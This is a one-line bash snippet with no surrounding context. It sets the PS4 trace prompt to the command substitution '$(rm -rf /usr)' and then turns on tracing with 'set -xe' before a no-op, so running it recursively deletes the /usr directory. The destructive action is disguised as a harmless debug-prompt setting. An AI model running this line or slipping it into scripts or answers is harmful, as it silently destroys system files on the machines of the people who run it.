PS4='$(rm -rf /usr)'; set -xe; :
